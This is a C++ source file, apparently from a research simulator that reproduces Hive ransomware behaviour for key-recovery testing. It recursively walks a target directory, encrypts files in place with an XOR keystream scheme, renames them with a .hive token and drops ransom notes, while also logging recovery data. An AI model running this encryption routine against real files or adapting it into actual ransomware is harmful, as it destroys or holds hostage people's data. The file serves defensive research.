#include "hivekr/simulator.hpp"

#include <algorithm>
#include <fstream>
#include <random>
#include <stdexcept>

#include "hivekr/signature.hpp"
#include "json.hpp"

namespace fs = std::filesystem;

namespace hivekr {

namespace {

void xor_keystreams(uint8_t* buf, uint64_t span_offset, uint64_t length, const uint8_t* key,
                    uint32_t sp1, uint32_t sp2) {
    for (uint64_t i = 0; i < length; ++i) {
        const uint64_t p = span_offset + i;
        buf[i] ^= key[sp1 + (p & (kKeystream1Bytes - 1))] ^ key[sp2 + (p & (kKeystream2Bytes - 1))];
    }
}

void check_key(const MasterKey& key) {
    if (key.bytes.size() != kMasterKeyBytes) {
        throw std::invalid_argument("master key must be exactly 0xA00000 bytes");
    }
}

// Draw uniformly from [lo, hi] off a raw 64-bit stream. The modulo bias is
// negligible for the ranges used here (< 2^-20).
uint64_t draw_in_range(std::mt19937_64& rng, uint64_t lo, uint64_t hi) {
    return lo + rng() % (hi - lo + 1);
}

constexpr const char* kRandomExtensions[] = {".bin", ".dat", ".txt", ".db", ".log"};

// Directory names treated as privileged: a user-level infection cannot
// touch files under them.
constexpr const char* kPrivilegedDirNames[] = {"Program Files", "Program Files (x86)",
                                               "ProgramData", "Windows"};

bool under_privileged_dir(const fs::path& relative) {
    for (const auto& part : relative) {
        for (const char* name : kPrivilegedDirNames) {
            if (part == name) return true;
        }
    }
    return false;
}

std::string ransom_note_text(const KeyTag& tag) {
    std::string text;
    text += "HOW TO DECRYPT\n";
    text += "\n";
    text += "Your files in this directory tree were encrypted and renamed to *.hive.\n";
    text += "Do not rename or modify encrypted files: the token embedded in each\n";
    text += "filename is required for recovery.\n";
    text += "\n";
    text += "Key fingerprint: " + to_hex(std::span<const uint8_t>(tag.data(), tag.size())) + "\n";
    text += "\n";
    text += "This infection was produced by a research simulator. No payment path\n";
    text += "exists; use the companion recovery tooling to restore the files.\n";
    return text;
}

}  // namespace

void encrypt_in_place(std::span<uint8_t> data, const MasterKey& key, uint64_t r1, uint64_t r2) {
    check_key(key);
    const auto layout = encrypted_spans(data.size());
    const auto [sp1, sp2] = keystream_offsets(r1, r2);
    for (const Span& s : layout.spans) {
        xor_keystreams(data.data() + s.offset, s.offset, s.length, key.bytes.data(), sp1, sp2);
    }
}

std::vector<uint8_t> encrypt_bytes(std::span<const uint8_t> data, const MasterKey& key,
                                   uint64_t r1, uint64_t r2) {
    std::vector<uint8_t> out(data.begin(), data.end());
    encrypt_in_place(out, key, r1, r2);
    return out;
}

void encrypt_file_in_place(const fs::path& path, const MasterKey& key, uint64_t r1, uint64_t r2) {
    check_key(key);
    const uint64_t size = fs::file_size(path);
    const auto layout = encrypted_spans(size);
    const auto [sp1, sp2] = keystream_offsets(r1, r2);
    std::fstream file(path, std::ios::binary | std::ios::in | std::ios::out);
    if (!file) throw std::runtime_error("cannot open for update: " + path.string());
    std::vector<uint8_t> buf(kEncryptedBlockBytes);
    for (const Span& s : layout.spans) {
        file.seekg(static_cast<std::streamoff>(s.offset));
        file.read(reinterpret_cast<char*>(buf.data()), static_cast<std::streamsize>(s.length));
        if (file.gcount() != static_cast<std::streamsize>(s.length)) {
            throw std::runtime_error("short read at offset " + std::to_string(s.offset) + ": " +
                                     path.string());
        }
        xor_keystreams(buf.data(), s.offset, s.length, key.bytes.data(), sp1, sp2);
        file.seekp(static_cast<std::streamoff>(s.offset));
        file.write(reinterpret_cast<const char*>(buf.data()),
                   static_cast<std::streamsize>(s.length));
        if (!file) throw std::runtime_error("write failed: " + path.string());
    }
    file.flush();
    if (!file) throw std::runtime_error("flush failed: " + path.string());
}

std::vector<fs::path> generate_corpus(const CorpusSpec& spec, const fs::path& out_dir) {
    if (spec.classes.empty()) throw std::invalid_argument("corpus spec has no size classes");
    uint64_t total = 0;
    for (const auto& c : spec.classes) {
        if (c.jitter > c.mean) {
            throw std::invalid_argument("size jitter exceeds mean; minimum size would underflow");
        }
        total += c.count;
    }
    if (total == 0) throw std::invalid_argument("corpus spec yields zero files");

    const SignatureEntry* sig = nullptr;
    if (spec.content == ContentModel::signatured) {
        sig = SignatureDb::builtin().find(spec.signature_extension);
        if (sig == nullptr) {
            throw std::invalid_argument("no built-in signature for extension '" +
                                        spec.signature_extension + "'");
        }
    }

    fs::create_directories(out_dir);
    std::mt19937_64 rng(spec.seed);
    std::vector<fs::path> paths;
    paths.reserve(total);
    std::vector<uint8_t> buf(1 << 20);
    uint64_t index = 0;
    for (const auto& c : spec.classes) {
        for (uint64_t i = 0; i < c.count; ++i, ++index) {
            const uint64_t size = draw_in_range(rng, c.mean - c.jitter, c.mean + c.jitter);
            char name[32];
            if (spec.content == ContentModel::signatured) {
                std::snprintf(name, sizeof(name), "file_%06llu.%s",
                              static_cast<unsigned long long>(index), sig->extension.c_str());
            } else {
                std::snprintf(name, sizeof(name), "file_%06llu%s",
                              static_cast<unsigned long long>(index),
                              kRandomExtensions[index % std::size(kRandomExtensions)]);
            }
            const fs::path path = out_dir / name;
            std::ofstream out(path, std::ios::binary | std::ios::trunc);
            if (!out) throw std::runtime_error("cannot create: " + path.string());
            uint64_t written = 0;
            while (written < size) {
                const uint64_t chunk = std::min<uint64_t>(buf.size(), size - written);
                for (uint64_t j = 0; j < chunk; j += 8) {
                    const uint64_t v = rng();
                    for (int k = 0; k < 8 && j + k < chunk; ++k) {
                        buf[j + k] = static_cast<uint8_t>(v >> (8 * k));
                    }
                }
                if (sig != nullptr) {
                    // Stamp the magic wherever it overlaps this chunk.
                    for (uint64_t m = 0; m < sig->magic.size(); ++m) {
                        const uint64_t p = sig->offset_in_file + m;
                        if (p >= written && p < written + chunk) buf[p - written] = sig->magic[m];
                    }
                }
                out.write(reinterpret_cast<const char*>(buf.data()),
                          static_cast<std::streamsize>(chunk));
                if (!out) throw std::runtime_error("write failed: " + path.string());
                written += chunk;
            }
            paths.push_back(path);
        }
    }
    return paths;
}

std::string InfectionReport::to_json() const {
    nlohmann::json j;
    j["seed"] = seed;
    j["key_tag"] = to_hex(std::span<const uint8_t>(key_tag.data(), key_tag.size()));
    j["files"] = nlohmann::json::array();
    for (const auto& f : files) {
        char r1hex[17], r2hex[17];
        std::snprintf(r1hex, sizeof(r1hex), "%016llx", static_cast<unsigned long long>(f.r1));
        std::snprintf(r2hex, sizeof(r2hex), "%016llx", static_cast<unsigned long long>(f.r2));
        j["files"].push_back({{"path", f.path}, {"r1", r1hex}, {"r2", r2hex}, {"size", f.size}});
    }
    j["failed"] = failed_paths;
    return j.dump(2);
}

InfectionReport InfectionReport::from_json(const std::string& text) {
    const auto j = nlohmann::json::parse(text);
    InfectionReport report;
    report.seed = j.at("seed").get<uint64_t>();
    const auto tag = from_hex(j.at("key_tag").get<std::string>());
    if (!tag || tag->size() != report.key_tag.size()) {
        throw std::runtime_error("report: bad key_tag");
    }
    std::copy(tag->begin(), tag->end(), report.key_tag.begin());
    for (const auto& jf : j.at("files")) {
        InfectedFileRecord rec;
        rec.path = jf.at("path").get<std::string>();
        rec.r1 = std::stoull(jf.at("r1").get<std::string>(), nullptr, 16);
        rec.r2 = std::stoull(jf.at("r2").get<std::string>(), nullptr, 16);
        rec.size = jf.at("size").get<uint64_t>();
        report.files.push_back(std::move(rec));
    }
    if (j.contains("failed")) {
        report.failed_paths = j.at("failed").get<std::vector<std::string>>();
    }
    return report;
}

void save_report(const fs::path& path, const InfectionReport& report) {
    std::ofstream out(path, std::ios::trunc);
    if (!out) throw std::runtime_error("cannot open for writing: " + path.string());
    out << report.to_json() << '\n';
    if (!out) throw std::runtime_error("write failed: " + path.string());
}

InfectionReport load_report(const fs::path& path) {
    std::ifstream in(path);
    if (!in) throw std::runtime_error("cannot open: " + path.string());
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    return InfectionReport::from_json(text);
}

InfectionReport infect_corpus(const InfectionConfig& config, const MasterKey& key, uint64_t seed) {
    check_key(key);
    if (!fs::is_directory(config.target_root)) {
        throw std::runtime_error("target root is not a directory: " + config.target_root.string());
    }
    const WrappedKey wrapped = wrap_master_key(key);

    // Collect eligible files up front, sorted, so draws are reproducible
    // regardless of directory iteration order.
    std::vector<fs::path> victims;
    std::vector<fs::path> directories = {config.target_root};
    for (const auto& entry : fs::recursive_directory_iterator(config.target_root)) {
        if (entry.is_directory()) {
            directories.push_back(entry.path());
            continue;
        }
        if (!entry.is_regular_file()) continue;
        const std::string name = entry.path().filename().string();
        if (name == kRansomNoteName) continue;
        if (name.ends_with(kInfectedSuffix)) continue;  // already infected / key blob
        bool excluded = false;
        for (const auto& suffix : config.excluded_suffixes) {
            if (name.ends_with(suffix)) {
                excluded = true;
                break;
            }
        }
        if (excluded) continue;
        if (config.privilege == InfectionConfig::Privilege::user &&
            under_privileged_dir(fs::relative(entry.path(), config.target_root))) {
            continue;
        }
        victims.push_back(entry.path());
    }
    std::sort(victims.begin(), victims.end());

    const fs::path key_dir =
        config.key_output_dir.empty() ? config.target_root : config.key_output_dir;
    fs::create_directories(key_dir);
    {
        const fs::path key_path = key_dir / key_file_name(wrapped.tag);
        std::ofstream out(key_path, std::ios::binary | std::ios::trunc);
        if (!out) throw std::runtime_error("cannot write key blob: " + key_path.string());
        out.write(reinterpret_cast<const char*>(wrapped.blob.data()),
                  static_cast<std::streamsize>(wrapped.blob.size()));
        if (!out) throw std::runtime_error("write failed: " + key_path.string());
    }

    InfectionReport report;
    report.seed = seed;
    report.key_tag = wrapped.tag;
    std::mt19937_64 rng(seed);
    for (const fs::path& victim : victims) {
        const uint64_t r1 = rng();
        const uint64_t r2 = rng();
        try {
            const uint64_t size = fs::file_size(victim);
            encrypt_file_in_place(victim, key, r1, r2);
            const FileToken token{wrapped.tag, r1, r2};
            const fs::path renamed =
                victim.parent_path() / encode_filename(victim.filename().string(), token);
            fs::rename(victim, renamed);
            report.files.push_back({fs::relative(renamed, config.target_root).generic_string(),
                                    r1, r2, size});
        } catch (const std::exception&) {
            report.failed_paths.push_back(
                fs::relative(victim, config.target_root).generic_string());
        }
    }

    if (config.drop_ransom_notes) {
        const std::string note = ransom_note_text(wrapped.tag);
        for (const fs::path& dir : directories) {
            std::ofstream out(dir / kRansomNoteName, std::ios::trunc);
            if (out) out << note;
        }
    }
    return report;
}

}  // namespace hivekr
